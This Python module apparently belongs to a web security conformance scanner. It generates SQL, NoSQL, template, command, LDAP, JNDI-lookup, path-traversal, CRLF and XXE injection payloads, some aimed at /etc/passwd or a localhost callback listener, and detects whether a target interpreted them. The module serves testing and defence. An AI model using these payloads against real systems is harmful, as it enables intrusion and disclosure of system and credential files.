"""Texts that mean something to an interpreter behind an interface, and how one would see that they did."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

from conformance.sdk import Exchange

#: A header that only an injected line break can bring into an answer.
PLANTED = "X-Conformance-Planted"
#: What a password file begins with.
_FILE = re.compile(rb"root:[^:\n]*:0:0:")


@dataclass(frozen=True, slots=True)
class Payload:
    """A text and what it aims at. ``delays``: an interpreter would wait for the seconds in it."""

    kind: str
    text: str
    delays: bool = False


@dataclass(frozen=True, slots=True)
class Marks:
    """What is unique to one check: two factors whose product nobody writes by chance, and our listener's port."""

    first: int
    second: int
    port: int

    @property
    def product(self) -> bytes:
        """What an interpreter makes of the factors; no payload contains it."""
        return str(self.first * self.second).encode()

    def sum_of(self) -> str:
        """Return the multiplication as it is written."""
        return f"{self.first}*{self.second}"


def payloads(marks: Marks, seconds: int) -> Iterator[Payload]:
    """Give all payloads; ``seconds`` is how long the delaying ones ask to wait."""
    product, listener = marks.sum_of(), f"127.0.0.1:{marks.port}"
    yield Payload("SQL", "o'clock")
    yield Payload("SQL", 'say "when')
    yield Payload("SQL", "x' OR '1'='1")
    yield Payload("SQL", f"x'||({product})||'")
    yield Payload("SQL", f"x'; SELECT pg_sleep({seconds})--", delays=True)
    yield Payload("SQL", f"x' AND SLEEP({seconds})-- -", delays=True)
    yield Payload("NoSQL", "'; return true; var x='")
    yield Payload("NoSQL", '{"$gt": ""}')
    yield Payload("template", f"{{{{{product}}}}}")
    yield Payload("template", f"${{{product}}}")
    yield Payload("template", f"#{{{product}}}")
    yield Payload("template", f"<%= {product} %>")
    yield Payload("command", f"x; sleep {seconds}", delays=True)
    yield Payload("command", f"$(sleep {seconds})", delays=True)
    yield Payload("command", f"x; curl http://{listener}/")
    yield Payload("command", f"`expr {marks.first} \\* {marks.second}`")
    yield Payload("LDAP", "*)(uid=*))(|(uid=*")
    yield Payload("lookup", f"${{jndi:ldap://{listener}/a}}")
    yield Payload("file", "../../../../../../etc/passwd")
    yield Payload("CRLF", f"x\r\n{PLANTED}: yes\r\n")


def external_entity(marks: Marks) -> bytes:
    """Return an XML document that asks its reader to fetch from our listener and to show a file."""
    return (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a SYSTEM "http://127.0.0.1:'
        f'{marks.port}/"><!ENTITY b SYSTEM "file:///etc/passwd">]><r>&a;&b;</r>'
    ).encode()


def showing(exchange: Exchange, marks: Marks) -> str | None:
    """Return what an answer shows that only an interpreter could have put there, or None."""
    if marks.product in exchange.body:
        return f"{marks.product.decode()}, the product of {marks.sum_of()}"
    if exchange.header(PLANTED):
        return f"the header {PLANTED}, which stood behind a line break in the request"
    if _FILE.search(exchange.body):
        return "the contents of /etc/passwd"
    return None
